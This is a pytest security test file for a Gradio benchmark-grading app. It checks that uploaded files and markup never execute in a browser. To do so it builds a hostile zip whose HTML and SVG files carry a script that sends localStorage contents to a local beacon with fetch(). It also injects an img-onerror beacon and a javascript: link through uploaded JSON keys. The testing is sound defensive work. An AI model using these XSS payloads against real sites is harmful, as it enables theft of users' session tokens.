"""Hostile uploads against the running app (issue 9, rows 1, 2, 8, 13), each attack performed for real.

Row 1: a benchmark zip carries an HTML page, an SVG and an HTML file disguised as a named image. The attacker
grades with it, reads `/sample` for server paths, and tries every file the app wrote under its data folder from
the app's own origin, in Chromium, in the tab of a victim whose owner token is in localStorage. Nothing of the
upload may be reachable, no answer may carry a path, and the real image is shown re-encoded from Gradio's cache.
Row 2: ids and keys of an uploaded file reach a toast: an ``<img>`` beacon must not load, a ``javascript:``
link inside an SVG must not exist. Rows 8 and 13 are checked on the same app: Gradio's cache is swept
(`delete_cache`) and the hub field refuses the server's own folders.
"""
from __future__ import annotations

import io
import json
import os
import threading
import time
import urllib.error
import urllib.request
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from PIL import Image
from playwright.sync_api import expect

from app import BENCH_HUB, BENCH_UPLOAD, JUDGE_BASELINE
from tests.app_fixtures import app_server, browser, fake_server, new_page  # noqa: F401  (fixtures)

gradio_client = pytest.importorskip("gradio_client")
from gradio_client import handle_file  # noqa: E402
from tests.api_client import ApiClient  # noqa: E402
from gradio_client.exceptions import AppError  # noqa: E402

TERMINAL = {"done", "stopped", "failed", "incomplete"}


class Beacon:
    """An HTTP server on 127.0.0.1 that logs every request a payload makes to it."""

    def __init__(self):
        hits = self.hits = []

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture(scope="module")
def beacon():
    b = Beacon()
    yield b
    b.server.shutdown()


def png_bytes() -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 30, 30)).save(buf, "PNG")
    return buf.getvalue()


def hostile_zip(path: Path, beacon_url: str) -> Path:
    steal = (f"<script>fetch('{beacon_url}/stolen?' + encodeURIComponent(JSON.stringify(localStorage)))"
             "</script>")
    meta = {"v1_0": {"imagename": "v1_0.png", "question": "What colour?", "answer": "red", "capability": ["rec"]},
            "v1_1": {"imagename": "v1_1.png", "question": "And here?", "answer": "blue", "capability": ["rec"]},
            "v1_2": {"imagename": "pwn.svg", "question": "Shape?", "answer": "round", "capability": ["ocr"]}}
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("mm-vet/mm-vet.json", json.dumps(meta))
        zf.writestr("mm-vet/images/v1_0.png", png_bytes())
        zf.writestr("mm-vet/images/v1_1.png", f"<html><body>{steal}</body></html>")     # HTML named as an image
        zf.writestr("mm-vet/images/pwn.svg", f'<svg xmlns="http://www.w3.org/2000/svg">{steal}</svg>')
        zf.writestr("mm-vet/pwn.html", f"<html>{steal}</html>")
    return path


def wait_end(client: ApiClient, run_id: str, timeout: float = 180) -> dict:
    deadline = time.time() + timeout
    while True:
        st = client.predict(run_id, api_name="/status")
        if st["status"] in TERMINAL or time.time() > deadline:
            return st
        time.sleep(0.3)


def http_status(url: str) -> tuple[int, str]:
    try:
        with urllib.request.urlopen(url, timeout=10) as r:
            return r.status, r.headers.get("content-type", "")
    except urllib.error.HTTPError as e:
        return e.code, e.headers.get("content-type", "")


def test_uploaded_benchmark_files_never_reach_a_browser(app_server, browser, beacon, tmp_path):
    zpath = hostile_zip(tmp_path / "mm-vet.zip", beacon.url)
    results = tmp_path / "answers.json"
    results.write_text(json.dumps({"v1_0": "red", "v1_1": "blue", "v1_2": "round"}))
    victim = new_page(browser, app_server.url, timeout_ms=90_000)    # the victim's tab holds an owner token
    victim.wait_for_function("Object.keys(localStorage).length > 0")
    client = ApiClient(app_server.url, verbose=False)
    run_id = client.predict(
        results=handle_file(str(results)), bench_c=BENCH_UPLOAD, bench_f=handle_file(str(zpath)), hub="",
        sub="All samples", n_runs=1, judge_c=JUDGE_BASELINE, url="", model="", key="", owner_tok="attacker",
        api_name="/grade")["run_id"]
    assert wait_end(client, run_id)["status"] == "done"

    # 1. no answer carries a server path
    data_dir = app_server.settings.data_dir.resolve()
    for sid in ("v1_0", "v1_1", "v1_2"):
        answer = json.dumps(client.predict(run_id, sid, api_name="/sample"))
        assert str(data_dir) not in answer and "/uploads/" not in answer and "/tmp" not in answer, answer
    assert client.predict(run_id, "v1_0", api_name="/sample")["has_image"] is True

    # 2. nothing but the metadata and the real image was written, and none of it is served
    written = [p for p in data_dir.rglob("*") if p.is_file() and "uploads" in p.parts]
    names = {p.name for p in written}
    assert {"mm-vet.json", "v1_0.png"} <= names and not names & {"pwn.html", "pwn.svg", "v1_1.png"}, names
    for p in written:
        assert http_status(f"{app_server.url}gradio_api/file={p}")[0] in (403, 404), p
        response = victim.goto(f"{app_server.url}gradio_api/file={p}")            # the attacker's link
        assert response.status in (403, 404)
    assert beacon.hits == []

    # 3. the real image is shown, re-encoded, from Gradio's cache
    viewer = new_page(browser, f"{app_server.url}?run={run_id}", timeout_ms=90_000)
    expect(viewer.locator("#samples-table [role=grid]")).to_have_attribute("aria-rowcount", "4")
    viewer.locator('#samples-table [data-testid="cell-0-0"]').click()
    img = viewer.locator("#detail-image img")
    expect(img).to_be_visible()
    src = img.get_attribute("src")
    assert "/uploads/" not in src and str(data_dir) not in src, src
    status, ctype = http_status(src if src.startswith("http") else app_server.url.rstrip("/") + src)
    assert status == 200 and ctype.startswith("image/"), (status, ctype)
    viewer.locator('#samples-table [data-testid="cell-1-0"]').click()             # the disguised HTML: no image
    expect(viewer.locator("#detail-id textarea")).to_have_value("v1_1")
    expect(viewer.locator("#detail-image img")).to_have_count(0)
    assert beacon.hits == []
    for page in (victim, viewer):
        page.context.close()


def test_markup_from_an_upload_in_a_toast_stays_text(app_server, browser, beacon, tmp_path):
    """The reader quotes an unknown layout's keys in its error, shown as a toast (Gradio renders toasts as HTML)."""
    img_key = f'<img src="{beacon.url}/toast-img" onerror="window.__pwned=1">'
    svg_key = '<svg><a href="javascript:window.__pwned=2"><text x="0" y="15">clickme</text></a></svg>'
    path = tmp_path / "answers.jsonl"
    path.write_text("".join(json.dumps({img_key: i, svg_key: "x"}) + "\n" for i in range(3)))
    page = new_page(browser, app_server.url, timeout_ms=90_000)
    page.locator("#results-file input[type=file]").set_input_files(str(path))
    toast = page.locator(".toast-body").filter(has_text="unknown layout")
    expect(toast).to_be_visible()
    expect(toast).to_contain_text("<img src=")                                   # shown literally
    expect(toast).to_contain_text('<a href="javascript:')
    assert toast.locator("img, svg a, a[href^='javascript']").count() == 0
    clickable = page.get_by_text("clickme", exact=True)
    if clickable.count():
        clickable.first.click()
    page.wait_for_timeout(500)          # give a loading image the chance it would have (the beacon records it)
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert [h for h in beacon.hits if h.startswith("/toast-img")] == []
    page.context.close()


@pytest.mark.parametrize("local", ["assets/examples", "tests/data", "mmvet_core/judging/prompts", "uploads-of-the-app"])
def test_hub_field_refuses_the_servers_own_folders(app_server, tmp_path, local):
    if local == "uploads-of-the-app":                         # the app's own uploads folder, as a relative path
        local = os.path.relpath(app_server.settings.data_dir / "uploads")
    results = Path(__file__).resolve().parent.parent / "assets" / "examples" / "llava_llama2_13b_chat.json"
    client = ApiClient(app_server.url, verbose=False)
    before = len(app_server.store.list_runs("hub-attacker"))
    with pytest.raises(AppError, match="folder on this server|not a Hugging Face dataset id"):
        client.predict(results=handle_file(str(results)), bench_c=BENCH_HUB, bench_f=None, hub=local,
                       sub="All samples", n_runs=1, judge_c=JUDGE_BASELINE, url="", model="", key="",
                       owner_tok="hub-attacker", api_name="/grade")
    assert len(app_server.store.list_runs("hub-attacker")) == before


def test_gradio_cache_is_swept(app_server):
    """Row 8: Gradio's upload cache is cleaned (delete_cache), and our own folders have a housekeeper."""
    every, older_than = app_server.demo.delete_cache
    assert 0 < every <= older_than <= 24 * 3600
